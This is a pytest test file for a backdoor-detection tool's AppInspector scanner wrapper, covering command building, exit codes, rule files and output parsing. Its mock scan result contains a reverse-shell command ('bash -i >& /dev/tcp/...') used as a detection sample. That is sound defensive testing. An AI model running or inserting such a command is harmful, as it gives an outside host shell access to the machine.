import json

import pytest

from detect_backdoor.core.errors import AnalysisFailed
from detect_backdoor.engines.appinspector import AppInspectorEngine, parse_detailed_matches
from detect_backdoor.engines.failure_policy import is_real_failure

SAMPLE_OUTPUT = {
    "metaData": {
        "detailedMatchList": [
            {
                "ruleId": "BD000200",
                "ruleName": "Reverse shell",
                "ruleDescription": "Shell redirected to a socket",
                "severity": "Critical",
                "confidence": "High",
                "fileName": "scripts/install.sh",
                "startLocationLine": 3,
                "startLocationColumn": 1,
                "endLocationLine": 3,
                "endLocationColumn": 30,
                "boundary": {"index": 42, "length": 29},
                "sample": "bash -i >& /dev/tcp/1.2.3.4/9",
                "tags": ["Backdoor.ReverseShell"],
            }
        ]
    }
}


class Dummy:
    def __init__(self, exit_code=0, stdout="", stderr=""):
        self.exit_code = exit_code
        self.stdout = stdout
        self.stderr = stderr


def _fake_run(exit_code, payload, seen):
    def run(cmd, cwd, timeout_sec=60):
        seen.append(list(cmd))
        if payload is not None:
            out = cmd[cmd.index("-o") + 1]
            with open(out, "w", encoding="utf-8") as f:
                json.dump(payload, f)
        return Dummy(exit_code=exit_code, stderr="boom" if exit_code > 1 else "")

    return run


def test_missing_binary(tmp_path, monkeypatch):
    monkeypatch.setattr("detect_backdoor.engines.appinspector.shutil.which", lambda _: None)

    with pytest.raises(AnalysisFailed, match="exit_code=127"):
        AppInspectorEngine().scan(tmp_path, tmp_path)


def test_runs_with_default_rules_disabled(tmp_path, monkeypatch):
    seen = []
    monkeypatch.setattr("detect_backdoor.engines.appinspector.shutil.which", lambda _: "/usr/bin/appinspector")
    monkeypatch.setattr("detect_backdoor.engines.appinspector.run_cmd", _fake_run(0, SAMPLE_OUTPUT, seen))

    matches = AppInspectorEngine().scan(tmp_path / "src", tmp_path / "rules")

    cmd = seen[0]
    assert cmd[1] == "analyze"
    assert "-i" in cmd
    assert cmd[cmd.index("-r") + 1] == str(tmp_path / "rules")
    assert cmd[cmd.index("-s") + 1] == str(tmp_path / "src")
    assert len(matches) == 1
    m = matches[0]
    assert (m.rule_id, m.file, m.line, m.offset) == ("BD000200", "scripts/install.sh", 3, 42)
    assert m.excerpt.startswith("bash -i")


def test_no_matches_exit_code_is_not_a_failure(tmp_path, monkeypatch):
    monkeypatch.setattr("detect_backdoor.engines.appinspector.shutil.which", lambda _: "/usr/bin/appinspector")
    monkeypatch.setattr("detect_backdoor.engines.appinspector.run_cmd", _fake_run(1, None, []))

    assert AppInspectorEngine().scan(tmp_path, tmp_path) == []


def test_error_exit_code_is_analysis_failure(tmp_path, monkeypatch):
    monkeypatch.setattr("detect_backdoor.engines.appinspector.shutil.which", lambda _: "/usr/bin/appinspector")
    monkeypatch.setattr("detect_backdoor.engines.appinspector.run_cmd", _fake_run(2, None, []))

    with pytest.raises(AnalysisFailed, match="exit_code=2"):
        AppInspectorEngine().scan(tmp_path, tmp_path)


def test_rule_files_are_json(tmp_path):
    (tmp_path / "backdoor.json").write_text("[]")
    (tmp_path / "notes.yar").write_text("")
    assert [p.name for p in AppInspectorEngine().rule_files(tmp_path)] == ["backdoor.json"]


def test_parse_handles_empty_output():
    assert parse_detailed_matches({}) == []
    assert parse_detailed_matches({"metaData": {"detailedMatchList": None}}) == []


@pytest.mark.parametrize(
    "engine,exit_code,artifact_exists,expected",
    [
        ("appinspector", 0, True, False),
        ("appinspector", 0, False, True),
        ("appinspector", 1, False, False),
        ("appinspector", 2, True, True),
        ("yara", 0, False, False),
        ("yara", 1, True, True),
    ],
)
def test_failure_policy(tmp_path, engine, exit_code, artifact_exists, expected):
    artifact = tmp_path / "out.json"
    if artifact_exists:
        artifact.write_text("{}")
    assert is_real_failure(engine, exit_code, artifact) is expected
